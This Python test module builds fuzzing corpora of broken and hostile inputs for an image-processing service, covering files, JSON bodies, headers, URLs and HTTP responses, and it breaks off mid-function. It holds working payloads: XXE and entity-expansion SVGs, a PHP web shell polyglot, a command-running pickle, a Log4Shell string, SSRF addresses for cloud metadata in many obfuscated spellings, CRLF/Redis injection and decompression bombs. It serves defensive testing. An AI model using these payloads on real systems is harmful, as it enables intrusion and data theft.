"""Inputs that mean harm or are merely broken, for whatever takes a picture: files, JSON bodies, addresses, web answers.

Each corpus is a dictionary from a name to an input; `variations` goes on for ever, by seed; the strategies at the end
are hypothesis's. The same seed gives the same inputs in every run. Nothing in the corpora leads to another machine:
hosts are addresses inside, however they are spelt, or names in `.invalid`, which by definition does not exist (RFC
6761). Where bytes are changed by chance they may name any machine: cut the network off.
"""

from __future__ import annotations

import base64
import binascii
import functools
import gzip
import io
import json
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from ipaddress import IPv4Address, IPv6Address
from typing import Any

from hypothesis import strategies as st
from PIL import Image

INSIDE = (
    "127.0.0.1", "127.8.8.8", "0.0.0.0", "10.0.0.1", "100.64.0.1", "100.100.100.200", "168.63.129.16",
    "169.254.169.254",
    "169.254.170.2", "172.16.0.1", "172.31.255.255", "192.0.0.192", "192.88.99.1", "192.168.1.1", "198.18.0.1",
    "224.0.0.1", "255.255.255.255",
)  # fmt: skip
"""Loopback, private and shared networks, clouds' metadata, multicast and reserved: nothing that may be fetched from."""

INSIDE_6 = (
    "::", "::1", "fe80::1", "fe80::1%25eth0", "fe80::1%251", "fc00::1", "fd00:ec2::254", "fec0::1", "ff02::1", "100::1",
    "2001:db8::1", "3fff::1", "5f00::1", "4000::1", "64:ff9b:1::a9fe:a9fe", "::ffff:0:127.0.0.1",
    "fe80::5efe:127.0.0.1",
)  # fmt: skip


# ------------------------------------------------------------------------------------------------ pictures


@functools.cache
def pictures() -> dict[str, bytes]:
    """Files that say they are pictures, or might be taken for one; some can be decoded, and are odd.

    None is larger than 7 MB, however large it says it is.
    """
    jpeg, png, webp, gif = (_encode(kind) for kind in ("JPEG", "PNG", "WEBP", "GIF"))
    return {
        **{f"nothing but {data!r}": data for data in (b"", b"\0", b"\n", b"\xff", b"\xff\xd8", b"RIFF", b"hello")},
        **{f"only the signature of {k}": d[:n] for k, d, n in (("JPEG", jpeg, 3), ("PNG", png, 8), ("WebP", webp, 12))},
        **_cut(jpeg, png, webp, gif),
        **_other_formats(),
        **_odd_modes(),
        **_jpegs(jpeg),
        **_pngs(png),
        **_webps(webp),
        **_polyglots(jpeg, png, gif),
        "JPEG and 6 MB of nothing": jpeg + bytes(6 * 10**6),
        "6 MB of zeros after a signature": b"\xff\xd8\xff" + bytes(6 * 10**6),
        "6 MB of markers": b"\xff\xd8" + b"\xff\xe0\0\2" * 1_500_000,
    }


def _draw(mode: str = "RGB") -> Image.Image:
    return Image.linear_gradient("L").resize((48, 40)).convert("RGB").convert(mode)


def _encode(kind: str, picture: Image.Image | None = None, **options: Any) -> bytes:
    buffer = io.BytesIO()
    (picture or _draw()).save(buffer, kind, **options)
    return buffer.getvalue()


def _cut(*files: bytes) -> dict[str, bytes]:
    """Every file cut off at some places, and with a hole in the middle."""
    cut = {
        f"{file[:4]!r} cut off after {share} %": file[: len(file) * share // 100]
        for file in files
        for share in (1, 5, 10, 25, 50, 75, 90, 99)
    }
    holes = {f"{f[:4]!r} with a hole": f[: len(f) // 3] + bytes(len(f) // 3) + f[len(f) * 2 // 3 :] for f in files}
    return cut | holes | {f"{f[:4]!r} without its last byte": f[:-1] for f in files}


def _other_formats() -> dict[str, bytes]:
    encoded = {kind: _encode(kind) for kind in ("BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "SGI", "JPEG2000", "EPS")}
    xml = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    lol = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (c + 1, b"&%c;" % c * 10) for c in range(97, 106)
    )
    return encoded | {
        "SVG with an external entity": xml + b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        "SVG that multiplies entities": lol + b"]><svg>&j;</svg>",
        "SVG with a script": b"<svg onload=\"fetch('http://169.254.169.254/')\"/>",
        "ImageMagick's vector graphics": b"push graphic-context\nfill 'url(https://a.invalid/|ls)'",
        "HEIC": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(64),
        "AVIF": b"\0\0\0\x18ftypavif\0\0\0\0avifmif1" + bytes(64),
        "PDF": b"%PDF-1.7\n1 0 obj\n<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>\nendobj\n",
        "PSD": b"8BPS\0\1" + bytes(6) + b"\0\3\0\0\xff\xff\0\0\xff\xff\0\x08\0\3",
        "a page": b"<!doctype html><title>404</title>",
        "gzip": gzip.compress(_encode("JPEG"), mtime=0),
        "zip": b"PK\3\4" + bytes(60),
        "ELF": b"\x7fELF" + bytes(60),
        "pickle that runs a command": b"cos\nsystem\n(S'echo harm'\ntR.",
        "JSON": b'{"url": "http://127.0.0.1/"}',
    }


def _odd_modes() -> dict[str, bytes]:
    modes = {"JPEG": ("L", "CMYK", "YCbCr"), "PNG": ("1", "L", "LA", "P", "RGBA", "I;16"), "WEBP": ("RGBA",)}
    files = {f"{kind} in mode {m}": _encode(kind, _draw(m)) for kind, of_kind in modes.items() for m in of_kind}
    palette = _draw("P")
    frames = [_draw("L").rotate(40 * i) for i in range(8)]
    return files | {
        "palette with a transparent entry": _encode("PNG", palette, transparency=3),
        "JPEG, progressive": _encode(
            "JPEG", Image.frombytes("RGB", (48, 40), random.Random(0).randbytes(48 * 40 * 3)), progressive=True
        ),
        "JPEG in shades of nothing": _encode("JPEG", Image.new("RGB", (1, 1))),
        "PNG, one pixel": _encode("PNG", Image.new("RGBA", (1, 1))),
        "PNG, 1 × 60,000": _encode("PNG", Image.new("L", (1, 60_000))),
        "PNG, 60,000 × 1": _encode("PNG", Image.new("L", (60_000, 1))),
        "JPEG, 65,000 × 1": _encode("JPEG", Image.new("L", (65_000, 1))),
        "WebP, animated": _encode("WEBP", frames[0], save_all=True, append_images=frames[1:]),
        "PNG, animated": _encode("PNG", frames[0], save_all=True, append_images=frames[1:]),
        "GIF, animated": _encode("GIF", frames[0], save_all=True, append_images=frames[1:]),
        "MPO": _encode("MPO", frames[0], save_all=True, append_images=frames[1:3]),
    }


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def _jpegs(jpeg: bytes) -> dict[str, bytes]:
    start, rest = jpeg[:2], jpeg[2:]
    sof, scan = jpeg.index(b"\xff\xc0"), jpeg.index(b"\xff\xda")

    def sized(height: int, width: int) -> bytes:
        return jpeg[: sof + 5] + struct.pack(">HH", height, width) + jpeg[sof + 9 :]

    def exif(entries: bytes, offset: int = 8) -> bytes:
        return start + _segment(0xE1, b"Exif\0\0II*\0" + struct.pack("<I", offset) + entries) + rest

    orientation = b"\1\0\x12\1\3\0\1\0\0\0%c\0\0\0\0\0\0\0"
    return {
        "JPEG that says 65,500 × 65,500": sized(65_500, 65_500),
        "JPEG that says 0 × 0": sized(0, 0),
        "JPEG without a height": sized(0, 48),
        "JPEG that says 1 × 65,535": sized(1, 65_535),
        "JPEG of 12 bits": jpeg[: sof + 4] + b"\x0c" + jpeg[sof + 5 :],
        "JPEG of 255 components": jpeg[: sof + 9] + b"\xff" + jpeg[sof + 10 :],
        "JPEG, lossless": jpeg[: sof + 1] + b"\xc3" + jpeg[sof + 2 :],
        "JPEG, arithmetic": jpeg[: sof + 1] + b"\xc9" + jpeg[sof + 2 :],
        "JPEG of 2,000 scans": jpeg[:scan] + jpeg[scan:-2] * 2000 + jpeg[-2:],
        "JPEG without tables": start + jpeg[sof:],
        "JPEG without a frame": jpeg[:sof] + jpeg[scan:],
        "JPEG with a segment of no length": start + b"\xff\xe0\0\0" + rest,
        "JPEG with a segment that goes on for ever": start + b"\xff\xe1\xff\xff" + rest,
        "JPEG with 500 comments": start + _segment(0xFE, b"<script>" * 100) * 500 + rest,
        "JPEG with half a colour profile": start + _segment(0xE2, b"ICC_PROFILE\0\1\2" + bytes(99)) + rest,
        "JPEG with a broken colour profile": start + _segment(0xE2, b"ICC_PROFILE\0\1\1" + b"\xff" * 9999) + rest,
        "JPEG with broken Exif": exif(b"\xff" * 60),
        "JPEG with Exif that points outside": exif(orientation % 6, offset=2**31 - 1),
        "JPEG with Exif that points to itself": exif(b"\1\0\x69\x87\4\0\1\0\0\0\x08\0\0\0\x08\0\0\0"),
        **{f"JPEG of orientation {i}": exif(orientation % i) for i in (0, 3, 6, 8, 9, 255)},
        "JPEG with 20,000 Exif entries": exif(struct.pack("<H", 20_000) + bytes(60)),
        "JPEG with an XMP of one long word": start
        + _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + b"<a>" * 9000)
        + rest,
        "JPEG with Adobe's transform 255": start + _segment(0xEE, b"Adobe\0\x64\0\0\0\0\xff") + rest,
        "JPEG twice": jpeg + jpeg,
    }


def _chunk(kind: bytes, data: bytes, length: int | None = None, crc: int | None = None) -> bytes:
    checksum = binascii.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data) if length is None else length) + kind + data + struct.pack(">I", checksum)


def _zeros(size: int) -> bytes:
    """So many zeros, deflated: a thousandth of their size."""
    packer, block = zlib.compressobj(9), bytes(2**20)
    packed = [packer.compress(block[: min(2**20, size - start)]) for start in range(0, size, 2**20)]
    return b"".join(packed) + packer.flush()


def _pngs(png: bytes) -> dict[str, bytes]:
    signature, end = png[:8], _chunk(b"IEND", b"")

    def made(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 0, interlace: int = 0) -> bytes:
        header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
        return b"".join([signature, _chunk(b"IHDR", header), *chunks, end])

    row = _chunk(b"IDAT", zlib.compress(bytes(5) * 4))
    beyond = _chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff\xff" * 4))
    huge_text = _chunk(b"zTXt", b"Comment\0\0" + _zeros(200 * 2**20))
    return {
        "PNG bomb of 400 megapixels": made(20_000, 20_000, _chunk(b"IDAT", _zeros(20_000 * 2501)), depth=1),
        "PNG that says 2 billion × 2 billion": made(2**31 - 1, 2**31 - 1, row),
        "PNG that says 50,000 × 50,000": made(50_000, 50_000, row, colour=6),
        "PNG that says 0 × 0": made(0, 0, row),
        "PNG that says −1 × −1": made(2**32 - 1, 2**32 - 1, row),
        "PNG with a text bomb of 200 MB": made(4, 4, huge_text, row),
        "PNG with a colour profile bomb": made(4, 4, _chunk(b"iCCP", b"x\0\0" + _zeros(100 * 2**20)), row),
        "PNG with 5,000 texts": made(4, 4, _chunk(b"tEXt", b"k\0v") * 5000, row),
        "PNG without data": made(4, 4),
        "PNG with too little data": made(400, 400, row),
        "PNG with too much data": made(4, 4, _chunk(b"IDAT", zlib.compress(bytes(10**6)))),
        "PNG with broken data": made(4, 4, _chunk(b"IDAT", b"\x78\x9c" + b"\xff" * 50)),
        "PNG with a wrong checksum": made(4, 4, _chunk(b"IDAT", zlib.compress(bytes(20)), crc=1)),
        "PNG with a chunk of 4 GB": made(4, 4, _chunk(b"IDAT", b"x", length=2**32 - 1)),
        "PNG with a chunk of −1": made(4, 4, _chunk(b"tEXt", b"x", length=2**31)),
        "PNG with a nameless chunk": made(4, 4, _chunk(b"\0\0\0\0", b"x"), row),
        "PNG of depth 3": made(4, 4, row, depth=3),
        "PNG of depth 16": made(4, 4, row, depth=16, colour=2),
        "PNG of colour type 9": made(4, 4, row, colour=9),
        "PNG, interlaced somehow": made(4, 4, row, interlace=7),
        "PNG, a palette without one": made(4, 4, row, colour=3),
        "PNG, a palette of 300 entries": made(4, 4, _chunk(b"PLTE", bytes(900)), row, colour=3),
        "PNG, a palette and an index beyond": made(4, 4, _chunk(b"PLTE", bytes(3)), beyond, colour=3),
        "PNG with two headers": png[:33] + png[8:33] + png[33:],
        "PNG of a million frames": made(4, 4, _chunk(b"acTL", struct.pack(">II", 10**6, 0)), row),
        "PNG by text mode": png.replace(b"\r\n", b"\n"),
    }  # fmt: skip


def _webps(webp: bytes) -> dict[str, bytes]:
    def riff(*chunks: bytes, size: int | None = None) -> bytes:
        body = b"WEBP" + b"".join(chunks)
        return b"RIFF" + struct.pack("<I", len(body) if size is None else size) + body

    lossless = b"\x2f" + struct.pack("<I", 0x3FFF | 0x3FFF << 14) + bytes(20)
    return {
        "WebP that says 16,384 × 16,384": riff(b"VP8L" + struct.pack("<I", len(lossless)) + lossless),
        "WebP canvas of 16 million × 16 million": riff(b"VP8X\x0a\0\0\0\x10\0\0\0" + b"\xff" * 6, webp[12:]),
        "WebP of no size": riff(webp[12:], size=0),
        "WebP of 4 GB": riff(webp[12:], size=2**32 - 1),
        "WebP without a picture": riff(),
        "WebP with a chunk of 4 GB": riff(b"VP8 \xff\xff\xff\xff" + bytes(30)),
        "WebP with nothing but Exif": riff(b"EXIF" + struct.pack("<I", 8) + b"II*\0\x08\0\0\0"),
        "sound": b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + bytes(28),
    }


def _polyglots(jpeg: bytes, png: bytes, gif: bytes) -> dict[str, bytes]:
    script, page = b"<?php system($_GET['c']); ?>", b"<html><script>alert(1)</script></html>"
    return {
        "JPEG and a page": jpeg + page,
        "a page in a comment of a JPEG": jpeg[:2] + _segment(0xFE, page) + jpeg[2:],
        "JPEG and PHP": jpeg + script,
        "JPEG and zip": jpeg + b"PK\3\4" + bytes(40) + b"PK\5\6" + bytes(18),
        "PNG and a page": png + page,
        "PNG and JavaScript": png[:-12] + _chunk(b"tEXt", b"*/=alert(1)/*") + png[-12:],
        "GIF and JavaScript": b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)",
        "GIF and Java": gif + b"PK\3\4" + bytes(40),
        "JPEG behind a page": page + jpeg,
        "JPEG behind a byte order mark": b"\xef\xbb\xbf" + jpeg,
        "JPEG's signature and a PNG": b"\xff\xd8\xff" + png,
        "PNG's signature and a JPEG": b"\x89PNG\r\n\x1a\n" + jpeg,
        "PDF and JPEG": b"%PDF-1.7\n" + jpeg,
    }


# ------------------------------------------------------------------------------------------------ JSON


@functools.cache
def json_bodies() -> dict[str, bytes]:
    """Bodies of requests and events: no JSON, JSON of the wrong shape, and the right shape with harm in it."""
    image = base64.b64encode(_encode("PNG")).decode()
    texts = [
        "", " ", "{", "}", "[", '"', "null", "true", "0", "-", "NaN", "Infinity", "[]", "{}", '"url"', "{'url': 1}",
        "undefined",
        '{"url"}', '{"url":}', '{"url": "a",}', '{"url": "a"} {"url": "b"}', '// c\n{"url": "a"}', '{"url": "\\u"}',
        '{"url": "\\ud800"}', '{"url": "\n"}', '{"url": "\\u0000"}', '{"": ""}',
        '{"url": 1, "url": "http://127.0.0.1/"}',
        '{"a": 1e400}', '{"image": -1e400}', '{"top_k": 1E400, "image": ""}', "[" * 100_000, '{"url":' * 50_000,
        "[" * 900 + "]" * 900,
        "1" * 5000, '{"top_k": ' + "9" * 5000 + ', "image": ""}', '{"' + "k" * 100_000 + '": 1}',
        '{"url": "' + "a" * 100_000 + '"}',
        json.dumps({str(i): i for i in range(20_000)}), " " * 100_000 + "{}",
        '{"url": "http://127.0.0.1/' + "%" * 9000 + '"}',
    ]  # fmt: skip
    shapes: list[Any] = [
        {"url": v}
        for v in (None, True, 0, 1.5, [], {}, ["http://127.0.0.1/"], {"url": "x"}, "", " ", "http://", "\ud800")
    ]
    shapes += [
        {"image": v}
        for v in (
            None, False, 7, [], {}, "", "=", "====", "a", "YQ", "YQ==YQ==", "not base64", "aGVsbG8", "ü", "\0",
            image[:-1],
            "-_-_", f"data:image/png;base64,{image}", f"{image}\n", f" {image}", image + "=",
            image[:50] + "\n" + image[50:],
        )
    ]  # fmt: skip
    shapes += [
        {"image": image, "top_k": v}
        for v in (
            0, -1, 1, 5, 6, 1000, 1001, 10**30, 1.0, 1.5, "5", "all", "ALL", "", None, True, False, [], [5], {},
            float("nan"),
            float("inf"), -0.0, "٥",
        )
    ]  # fmt: skip
    shapes += [{"image": image, "details": v} for v in (True, False, None, 0, 1, "true", [], {})]
    shapes += [
        {"url": "http://127.0.0.1/", "image": image},
        {"URL": "http://127.0.0.1/"},
        {"image": image, "__proto__": {"admin": True}, "__class__": "os.system"},
        {"image": image, "endpoint": "another", "EndpointName": "another", "allowed": ["127.0.0.1:80"]},
        {"instances": [[0.0] * 100]},
        {"Records": [{"s3": {"bucket": {"name": "b"}}}]},
        [{"image": image}],
        [[[]]],
        {"image": {"image": {"image": image}}},
        {"url": "${jndi:ldap://a.invalid/x}"},
        {"url": "{{7*7}}", "image": None},
    ]
    bodies = {f"text {text[:30]!r} of {len(text)}": text.encode() for text in texts}
    bodies |= {f"shape {repr(shape)[:60]} {i}": json.dumps(shape).encode() for i, shape in enumerate(shapes)}
    plain = json.dumps({"image": image})
    return bodies | {
        "with a byte order mark": b"\xef\xbb\xbf" + plain.encode(),
        "in UTF-16": plain.encode("utf-16"),
        "in UTF-32": plain.encode("utf-32"),
        "in Latin-1": '{"url": "http://ü.invalid/"}'.encode("latin-1"),
        "not UTF-8": b'{"url": "\xff\xfe\xff"}',
        "a surrogate in UTF-8": b'{"url": "\xed\xa0\x80"}',
        "cut off": plain.encode()[:100],
        "a bomb": json.dumps(
            {"image": base64.b64encode(pictures()["PNG bomb of 400 megapixels"]).decode(), "top_k": "all"}
        ).encode(),
        "a form": b"url=http%3A%2F%2F127.0.0.1%2F",
        "multipart": b'--x\r\nContent-Disposition: form-data; name="image"\r\n\r\n\xff\xd8\xff\r\n--x--\r\n',
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }


def headers() -> dict[str, dict[str, str]]:
    """Headers of a request that lie, are strange, or are large. Values are what HTTP/1.1 can carry."""
    kinds = [
        "", ";", "image/", "image/jpeg;" + "a=b;" * 500, "image/svg+xml", "IMAGE/PNG", "image/gif",
        "image/jpeg, image/png",
        "text/html", "multipart/form-data", "multipart/form-data; boundary=x", "application/json; charset=utf-7",
        "application/json; charset=no-such", "application/x-python-pickle", "application/x-npy", "a" * 5000, "é", "*/*",
    ]  # fmt: skip
    named = {f"type {kind[:30]!r} of {len(kind)}": {"Content-Type": kind} for kind in kinds}
    return named | {
        "a body that is packed": {"Content-Type": "image/jpeg", "Content-Encoding": "gzip"},
        "a wish for XML": {"Content-Type": "image/jpeg", "Accept": "application/xml"},
        "a wish for nothing": {"Content-Type": "image/jpeg", "Accept": "image/*;q=0"},
        "a host of its own": {"Content-Type": "image/jpeg", "Host": "169.254.169.254"},
        "other addresses": {"X-Forwarded-For": "127.0.0.1", "X-Original-URL": "/metrics", "Forwarded": "for=::1"},
        "another method": {"X-HTTP-Method-Override": "DELETE"},
        "a request id with line ends": {"X-Request-Id": "a%0d%0aX-Injected: 1"},
        "a request id of 5,000": {"X-Request-Id": "a" * 5000},
        "a trace of nonsense": {"X-Amzn-Trace-Id": "Root=1;Sampled=?;" + "x=" * 500},
        "SageMaker's own": {
            "X-Amzn-SageMaker-Custom-Attributes": "a" * 1024,
            "X-Amzn-SageMaker-Target-Model": "../../x",
        },
        "a large one": {"X-Large": "a" * 60_000},
        "many": {f"X-Many-{i}": "a" * 100 for i in range(90)},
    }


# ------------------------------------------------------------------------------------------------ addresses


def spellings(address: str) -> list[str]:
    """An IPv4 address as hosts of URLs have been known to hide it."""
    number = int(IPv4Address(address))
    parts = address.split(".")
    a, b, c, d = map(int, parts)
    mapped, embedded = f"::ffff:{number >> 16:x}:{number & 0xFFFF:x}", f"{number >> 16:x}:{number & 0xFFFF:x}"
    teredo = IPv6Address((0x20010000 << 96) | (number << 64) | (number ^ 0xFFFFFFFF))
    circled = "".join("⓪①②③④⑤⑥⑦⑧⑨"[int(digit)] if digit.isdigit() else digit for digit in address)
    return [
        address, f"{address}.", str(number), hex(number), f"{number:#X}", f"0{number:o}",
        f"0x{a:02x}.0x{b:x}.0x{c:x}.0x{d:x}",
        ".".join(f"0{int(part):o}" for part in parts), ".".join(f"0000{int(part):o}" for part in parts),
        f"{a}.{(b << 16) | (c << 8) | d}", f"{a}.{b}.{(c << 8) | d}", f"0x{a:x}.{b}.0{c:o}.{d}", str(number + 2**32),
        f"{a + 256}.{b}.{c}.{d}",
        f"[::ffff:{address}]", f"[{mapped}]", f"[{mapped.upper()}]", f"[0:0:0:0:0:ffff:{embedded}]", f"[::{address}]",
        f"[::{embedded}]",
        f"[64:ff9b::{address}]", f"[64:ff9b::{embedded}]", f"[64:ff9b:1::{embedded}]", f"[2002:{embedded}::1]",
        f"[{teredo}]",
        f"[::ffff:0:{embedded}]", f"[{mapped}%25lo]", circled, "。".join(parts), "．".join(parts),
        address.translate(str.maketrans("0123456789", "０１２３４５６７８９")),
        "".join(f"%{ord(letter):02x}" for letter in address),
    ]  # fmt: skip


@functools.cache
def urls() -> dict[str, str]:
    """Addresses that must not or cannot be fetched: inside in every spelling, other schemes, what confuses parsers."""
    hosts = [host for address in INSIDE for host in spellings(address)] + [f"[{address}]" for address in INSIDE_6]
    hosts += [
        "localhost",
        "LOCALHOST.",
        "localhost.localdomain",
        "a.localhost",
        "ip6-localhost",
        "①②⑦.⓪.⓪.①",
        "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
    ]
    addresses = [f"http://{host}/latest/meta-data/" for host in hosts]
    addresses += [f"https://{host}/" for host in hosts[::7]]
    addresses += [
        f"http://127.0.0.1:{port}/"
        for port in (0, 1, 22, 25, 80, 443, 2375, 6379, 9001, 65535, 65536, -1, "x", "０", "+80", "")
    ]
    addresses += [
        f"{scheme}169.254.169.254/"
        for scheme in (
            "file://", "ftp://", "gopher://", "dict://", "ldap://", "tftp://", "jar:http://", "netdoc://", "ws://",
            "//", "/", "",
            "http:", "http:/", "http:///", "http:////", "http:\\\\", "http:\\/\\/", "hTTp://", "http:://",
            "url:http://", "view-source:http://",
            "http\t://", "\nhttp://", " http://", "\0http://", "\ufeffhttp://", "http://\u200b", "http://\xad",
            "http://.", "http://%", "http://*.",
        )
    ]  # fmt: skip
    addresses += [
        "", " ", "http", "http:", "http://", "https://", "http://:80/", "http://@/", "http://?", "http://#",
        "http://[", "http://]",
        "http://[]/", "http://[::1", "http://::1/", "http://[::1]:x/", "http://[::1].invalid/",
        "http://[::1]a.invalid/", "http://[v1.a]/",
        "http://[127.0.0.1]/", "http://[fe80::1%25]/", "http://[fe80::1%en0]/", "http://a.invalid@127.0.0.1/",
        "http://127.0.0.1@a.invalid/",
        "http://u:p@127.0.0.1/", "http://a.invalid:80@127.0.0.1/", "http://a.invalid\\@127.0.0.1/",
        "http://127.0.0.1\\@a.invalid/",
        "http://a.invalid#@127.0.0.1/", "http://a.invalid?@127.0.0.1/", "http://a.invalid/@127.0.0.1/",
        "http://127.0.0.1:80:80/",
        "http://127.0.0.1 a.invalid/", "http://127.0.0.1\ta.invalid/", "http://a.invalid\r\nHost: b/",
        "http://127.0.0.1:6379/\r\nSET a b\r\n",
        "http://127.0.0.1/%0d%0aX-Injected:%201", "http://127.0.0.1/\u560d\u560a", "http://127.0.0.1/\ud800",
        "http://\ud800/", "http://a\0.invalid/",
        "http://..invalid/", "http://.invalid/", "http://a..invalid/", "http://-.invalid/", "http://xn--/",
        "http://xn--a.invalid/", "http://ß.invalid/",
        "http://\u0130.invalid/", "http://\u212a.invalid/", "http://ℂ.invalid/", "http://a\u2100.invalid/",
        "http://a\uff0fb.invalid/", "http://a\uff20127.0.0.1/",
        f"http://{'a' * 64}.invalid/", f"http://{'a.' * 200}invalid/", f"http://{'a' * 9000}.invalid/",
        f"http://127.0.0.1/{'a' * 8000}",
        f"http://127.0.0.1/{'a' * 200_000}", f"http://127.0.0.1/?{'é' * 100_000}", f"http://{'[' * 1000}/",
        f"http://{'@' * 5000}/",
        "data:image/png;base64,iVBORw0KGgo=", "javascript:alert(1)", "about:blank", "blob:http://127.0.0.1/x", "cid:x",
        "s3://bucket/key",
        "/etc/passwd", "../../etc/passwd", "C:\\dog.jpg", "\\\\127.0.0.1\\share\\dog.jpg", "file:///etc/passwd",
        "file://localhost/etc/passwd",
        "file:///proc/self/environ", "http://metadata.google.internal.invalid/", "http://rebind.invalid/",
        "http://127.0.0.1.invalid/",
        "http://{{7*7}}.invalid/", "http://$(id).invalid/", "http://`id`.invalid/",
        "http://a.invalid/';DROP TABLE dogs;--", "http://a.invalid/<script>",
    ]  # fmt: skip
    return {f"{i}: {address[:60]!r}": address for i, address in enumerate(addresses)}


# ------------------------------------------------------------------------------------------------ web answers


@functools.cache
def web_answers() -> dict[str, bytes]:
    """What a hostile web server sends, byte for byte, before it closes the connection. SECRET must not be passed on."""
    jpeg = _encode("JPEG")
    ok, length = b"HTTP/1.1 200 OK\r\n", f"Content-Length: {len(jpeg)}\r\n\r\n".encode()

    def to(target: bytes, status: int = 302) -> bytes:
        return b"HTTP/1.1 %d SECRET\r\nLocation: %s\r\nContent-Length: 6\r\n\r\nSECRET" % (status, target)

    chunked = ok + b"Transfer-Encoding: chunked\r\n\r\n"
    chunks = b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(jpeg), jpeg)
    answers = {
        "nothing": b"",
        "no HTTP": b"220 SECRET ESMTP\r\n",
        "no status": b"HTTP/1.1\r\n\r\n",
        "version 9": b"HTTP/9.9 200 OK\r\n" + length + jpeg,
        **{
            f"status {status!r}": b"HTTP/1.1 " + status + b" SECRET\r\n" + length + jpeg
            for status in (b"0", b"99", b"204", b"206", b"304", b"999", b"-1", b"1000", b"x")
        },
        "status line of 100 KB": b"HTTP/1.1 200 " + b"SECRET" * 17_000 + b"\r\n\r\n",
        "header of 100 KB": ok + b"X: " + b"SECRET" * 17_000 + b"\r\n" + length + jpeg,
        "90 headers of 60 KB": ok + (b"X: " + b"s" * 60_000 + b"\r\n") * 90 + length + jpeg,
        "200 headers": ok + b"X: SECRET\r\n" * 200 + length + jpeg,
        "header without a colon": ok + b"SECRET\r\n" + length + jpeg,
        "header that is folded": ok + b"X: a\r\n SECRET\r\n" + length + jpeg,
        "header with a zero": ok + b"X: a\0b\r\n" + length + jpeg,
        "1,000 times 100 Continue": b"HTTP/1.1 100 Continue\r\n\r\n" * 1000 + ok + length + jpeg,
        "packed body": ok + b"Content-Encoding: gzip\r\n\r\n" + gzip.compress(jpeg, mtime=0),
        "packed bomb": ok + b"Content-Encoding: gzip\r\n\r\n" + gzip.compress(bytes(50 * 2**20), mtime=0),
        "body that is announced twice": ok + b"Content-Length: 5\r\n" + length + jpeg,
        "body of two lengths at once": ok + b"Content-Length: 5, 6\r\n\r\n" + jpeg,
        **{
            f"length {n[:20]!r} of {len(n)}": ok + b"Content-Length: " + n + b"\r\n\r\n" + jpeg
            for n in (b"", b"-1", b"0", b"SECRET", b"1e3", b"+5", b"0x10", b"9" * 20, b"9" * 5000, b"\xb2")
        },
        "length that lies upwards": ok + b"Content-Length: 100000\r\n\r\n" + jpeg,
        "length and chunks": ok + b"Content-Length: 3\r\n" + chunks,
        "chunks": ok + chunks,
        "chunks of one byte": chunked + b"".join(b"1\r\n%c\r\n" % byte for byte in jpeg) + b"0\r\n\r\n",
        "chunks without an end": chunked + b"%x\r\n%s\r\n" % (len(jpeg), jpeg),
        "chunks that are packed": ok + b"Transfer-Encoding: gzip, chunked\r\n\r\n5\r\nSECRE\r\n0\r\n\r\n",
        **{
            f"chunk of {size[:20]!r}": chunked + size + b"\r\n" + jpeg
            for size in (b"-1", b"SECRET", b"f" * 16, b"f" * 40, b"", b"5;" + b"x" * 70_000)
        },
        "1,000 trailers": chunked + b"3\r\n\xff\xd8\xff\r\n0\r\n" + b"X: SECRET\r\n" * 1000 + b"\r\n",
        "6 MB": ok + b"\r\n" + jpeg + bytes(6 * 10**6),
        "a page that says it is a JPEG": ok + b"Content-Type: image/jpeg\r\n\r\n<html>SECRET</html>",
        "no place to go": b"HTTP/1.1 302 X\r\n\r\n",
        "two places to go": b"HTTP/1.1 302 X\r\nLocation: http://127.0.0.1:1/\r\nLocation: http://10.0.0.1/\r\n\r\n",
        "place of 100 KB": to(b"http://127.0.0.1/" + b"a" * 100_000),
        "place of 60 KB": to(b"http://127.0.0.1/" + b"a" * 60_000),
        "itself": to(b""),
        "itself with a growing query": to(b"?aaaa"),
        **{
            f"to {target[:30]!r}": to(target, status)
            for status,
            target in enumerate((b"file:///etc/passwd", b"//169.254.169.254/", b"http://[::1]/", b"http://[/"), 300)
        },
        **{
            f"on to {target[:30]!r}": to(target)
            for target in (
                b"file:///etc/passwd", b"gopher://127.0.0.1:6379/_SET", b"http://169.254.169.254/latest/",
                b"https://169.254.169.254/",
                b"//10.0.0.1/", b"http://2130706433/", b"http://0x7f.1/", b"http://localhost:22/", b"http://[::1]/",
                b"http://[fd00:ec2::254]/",
                b"http://u:p@127.0.0.1/", b"http://127.0.0.1:99999/", b"http://\xff\xfe/", b"\xff", b"http://a b/",
                b"javascript:alert(1)",
                b"http:\\\\127.0.0.1\\", b"http://a.invalid/", b"%0d%0aX: 1", b"../../../..",
            )
        },
    }  # fmt: skip
    whole = {f"the picture {name}": ok + b"\r\n" + data for name, data in list(pictures().items())[::5]}
    return answers | whole


# ------------------------------------------------------------------------------------------------ without an end


def variations(seed: int = 0) -> Iterator[tuple[str, bytes | str]]:
    """Endless inputs made of the corpora by chance: ("picture" or "JSON" or "answer", bytes) or ("address", text)."""
    rng = random.Random(seed)
    small = [file for file in pictures().values() if 8 < len(file) < 100_000]
    bodies = [body for body in json_bodies().values() if 1 < len(body) < 100_000]
    answers = [answer for answer in web_answers().values() if 1 < len(answer) < 100_000]
    hosts = [host for address in INSIDE for host in spellings(address)] + [f"[{address}]" for address in INSIDE_6]
    makers: list[Callable[[], tuple[str, bytes | str]]] = [
        lambda: ("picture", _broken(rng, rng.choice(small), rng.choice(small))),
        lambda: ("JSON", _broken(rng, rng.choice(bodies), rng.choice(bodies))),
